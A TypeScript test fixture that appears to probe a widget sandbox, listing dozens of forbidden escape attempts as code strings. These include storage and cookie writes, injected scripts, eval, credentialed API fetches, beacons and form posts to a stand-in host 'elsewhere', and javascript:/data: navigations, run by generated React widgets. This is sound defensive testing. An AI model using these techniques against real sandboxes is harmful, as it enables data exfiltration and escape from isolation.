/** What a widget tries that the rules forbid. Each is the body of an async function; it returns whether it succeeded. */
export const ATTACKS: { readonly [name: string]: string } = {
  "local storage by a destructured window": `
    const [w] = [window];
    w.localStorage.setItem("secret", "1");
    return w.localStorage.getItem("secret") === "1";`,
  "session storage by the document's view": `
    element.ownerDocument.defaultView.sessionStorage.setItem("secret", "1");
    return true;`,
  "local storage by the view of an event": `
    const { view } = await new Promise((resolve) => {
      element.addEventListener("click", resolve, { once: true });
      element.dispatchEvent(new MouseEvent("click", { view: window }));
    });
    view.localStorage.setItem("secret", "1");
    return true;`,
  "local storage by a timer's this": `
    return await new Promise((resolve) => setTimeout(function () {
      try { this.localStorage.setItem("secret", "1"); resolve(true); } catch { resolve(false); }
    }));`,
  "local storage of a frame within": `
    const frame = document.createElement("iframe");
    element.append(frame);
    try {
      frame.contentWindow.localStorage.setItem("secret", "1");
      return true;
    } finally { frame.remove(); }`,
  "WebRTC of a frame within": `
    const frame = document.createElement("iframe");
    element.append(frame);
    try { return frame.contentWindow.RTCPeerConnection !== undefined; } finally { frame.remove(); }`,
  "a cookie": `document.cookie = "secret=1; path=/"; return document.cookie.includes("secret");`,
  "a cookie by the setter of the prototype": `
    const { set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    set.call(document, "secret=1; path=/");
    return true;`,
  "IndexedDB": `
    return await new Promise((resolve, reject) => {
      const request = indexedDB.open("secret");
      request.onsuccess = () => resolve(true);
      request.onerror = () => resolve(false);
    });`,
  "the cache": `await (await caches.open("secret")).put("/secret", new Response("1")); return true;`,
  "the private file system":
    `await (await navigator.storage.getDirectory()).getFileHandle("secret", { create: true });
    return true;`,
  "a worker": `
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })));
    return await new Promise((resolve) => {
      worker.onmessage = () => resolve(true);
      worker.onerror = () => resolve(false);
      setTimeout(() => resolve(false), 1000);
    });`,
  "a shared worker": `
    const worker = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => p.postMessage(1)"])));
    return await new Promise((resolve) => {
      worker.port.onmessage = () => resolve(true);
      worker.onerror = () => resolve(false);
      setTimeout(() => resolve(false), 1000);
    });`,
  "a service worker":
    `await navigator.serviceWorker.register("/__tck/v1/boot-frame.mjs", { type: "module" }); return true;`,
  "WebRTC": `new RTCPeerConnection({ iceServers: [{ urls: "stun:" + elsewhere.slice(7) }] }); return true;`,
  "a nonce": `return document.querySelector("[nonce]")?.nonce !== undefined;`,
  "an inline script": `
    const script = document.createElement("script");
    script.textContent = "globalThis.ranInline = true";
    document.head.append(script);
    return globalThis.ranInline === true;`,
  "a script from elsewhere": `
    const script = document.createElement("script");
    script.src = elsewhere + "/script.js";
    return await new Promise((resolve) => {
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.head.append(script);
    });`,
  "eval": `return (0, eval)("1") === 1;`,
  "the API with the session": `
    return (await fetch(origin + "/api/daily-pages/v2/batches", { credentials: "include" })).ok;`,
  "the API without reading the answer": `
    await fetch(origin + "/api/daily-pages/v2/batches?secret=1", { mode: "no-cors", credentials: "include" });
    return true;`,
  "XMLHttpRequest": `
    return await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", elsewhere + "/xhr");
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.send();
    });`,
  "a beacon": `navigator.sendBeacon(elsewhere + "/beacon", "secret"); return false;`,
  "a web socket": `
    const socket = new WebSocket(elsewhere.replace("http", "ws") + "/socket");
    return await new Promise((resolve) => {
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    });`,
  "server-sent events": `
    const events = new EventSource(elsewhere + "/events");
    return await new Promise((resolve) => {
      events.onopen = () => resolve(true);
      events.onerror = () => { events.close(); resolve(false); };
    });`,
  "an image": `
    const image = new Image();
    return await new Promise((resolve) => {
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = elsewhere + "/image.png";
    });`,
  "a background image":
    `element.style.backgroundImage = "url(" + elsewhere + "/background.png)"; return false;`,
  "a font": `
    await new FontFace("secret", "url(" + elsewhere + "/font.woff2)").load();
    return true;`,
  "a stylesheet": `
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = elsewhere + "/style.css";
    return await new Promise((resolve) => {
      link.onload = () => resolve(true);
      link.onerror = () => resolve(false);
      document.head.append(link);
    });`,
  "a prefetch": `
    const link = document.createElement("link");
    link.rel = "prefetch";
    link.href = elsewhere + "/prefetch";
    document.head.append(link);
    return false;`,
  "a video": `
    const video = document.createElement("video");
    video.src = elsewhere + "/video.mp4";
    element.append(video);
    return false;`,
  "a frame of elsewhere": `
    const frame = document.createElement("iframe");
    frame.src = elsewhere + "/frame";
    element.append(frame);
    return false;`,
  "an object of elsewhere": `
    const object = document.createElement("object");
    object.data = elsewhere + "/object";
    element.append(object);
    return false;`,
  "a form": `
    const form = document.createElement("form");
    form.action = elsewhere + "/form";
    form.method = "post";
    element.append(form);
    form.submit();
    return false;`,
  "a new window": `return window.open(elsewhere + "/window") !== null;`,
  "the parent's document": `return parent.document.title !== undefined;`,
  "the parent's session by a message": `
    parent.postMessage({ type: "tck:theme", theme: "dark" }, "*");
    parent.postMessage({ type: "open", href: elsewhere + "/message" }, "*");
    return false;`,
  "the top page's address": `top.location = elsewhere + "/top"; return false;`,
  "a channel to the page": `
    const channel = new BroadcastChannel("secret");
    return await new Promise((resolve) => {
      channel.onmessage = () => resolve(true);
      channel.postMessage("ping");
      setTimeout(() => resolve(false), 500);
    });`,
  "a link that clicks itself": `
    const link = document.createElement("a");
    link.href = elsewhere + "/link";
    element.append(link);
    link.click();
    return false;`,
  "a download": `
    const link = document.createElement("a");
    link.href = elsewhere + "/download";
    link.download = "secret";
    element.append(link);
    link.click();
    return false;`,
};

/** What a widget tries in order to send its frame elsewhere. Each is the body of a function. */
export const NAVIGATIONS: { readonly [name: string]: string } = {
  "location.href": `location.href = elsewhere + "/?secret";`,
  "location.assign to the API": `location.assign("/api/daily-pages/v2/batches?secret=1");`,
  "a refresh": `
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0;url=" + elsewhere + "/?secret";
    document.head.append(meta);`,
  "a javascript address": `location.href = "javascript:parent.stolen=1";`,
  "a document of its own": `
    location.href = URL.createObjectURL(new Blob(["<script>new Image().src='" + elsewhere + "'</script>"], { type: "text/html" }));`,
  "a data address": `location.href = "data:text/html,<img src=" + elsewhere + ">";`,
};

/** The attacks that make an open page leave. */
export const LEAVING = [
  "the top page's address",
  "a form",
  "a link that clicks itself",
  "a download",
  "a new window",
];

/**
 * A widget that runs the attacks after it is mounted, and shows as JSON which succeeded.
 *
 * @param without the names of attacks that are left out
 */
export function attackingWidget(origin: string, elsewhere: string, without: readonly string[] = []): string {
  const attacks = Object.entries(ATTACKS).filter(([name]) => !without.includes(name)).map(([name, body]) =>
    `${JSON.stringify(name)}: async (element, origin, elsewhere) => {${body}}`
  );
  return `
    import { createElement, useEffect, useRef, useState } from "react";
    const attacks = {${attacks.join(",\n")}};
    export default function Attack() {
      const element = useRef(null);
      const [results, setResults] = useState(null);
      useEffect(() => {
        (async () => {
          const succeeded = [];
          for (const [name, attack] of Object.entries(attacks)) {
            const result = await attack(element.current, ${JSON.stringify(origin)}, ${
    JSON.stringify(elsewhere)
  })
              .catch(() => false);
            if (result === true) succeeded.push(name);
          }
          window.name = "secret";
          try { history.replaceState({ secret: 1 }, ""); } catch {}
          setResults(succeeded);
        })();
      }, []);
      return createElement("div", null,
        createElement("div", { ref: element }),
        results === null ? null : createElement("pre", { "data-results": "" }, JSON.stringify(results)));
    }`;
}

/** A widget that sends its frame elsewhere when it is mounted. */
export function navigatingWidget(body: string, elsewhere: string): string {
  return `
    import { useEffect } from "react";
    const elsewhere = ${JSON.stringify(elsewhere)};
    export default function Navigate() {
      useEffect(() => {${body}}, []);
      return "leaving";
    }`;
}
